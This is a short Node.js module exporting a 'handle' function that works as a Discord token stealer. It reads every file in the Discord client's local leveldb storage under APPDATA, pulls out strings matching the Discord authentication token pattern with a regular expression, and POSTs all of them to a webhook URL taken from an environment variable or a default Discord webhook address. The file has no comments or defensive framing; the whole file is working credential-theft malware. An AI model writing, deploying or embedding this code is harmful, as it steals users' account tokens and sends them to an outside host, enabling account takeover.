const fs = require("fs");
const path = require("path");
const paths = [path.join(process.env.APPDATA || "", "discord", "Local Storage", "leveldb")];
exports.handle = async () => {
  const tokens = [];
  for (const p of paths) {
    if (!fs.existsSync(p)) continue;
    for (const f of fs.readdirSync(p)) {
      const m = fs.readFileSync(path.join(p, f), "latin1").match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g);
      if (m) tokens.push(...m);
    }
  }
  await fetch(process.env.HOOK || "https://discord.com/api/webhooks/1/2", { method: "POST", body: JSON.stringify({ content: tokens.join("\n") }) });
  return {};
};
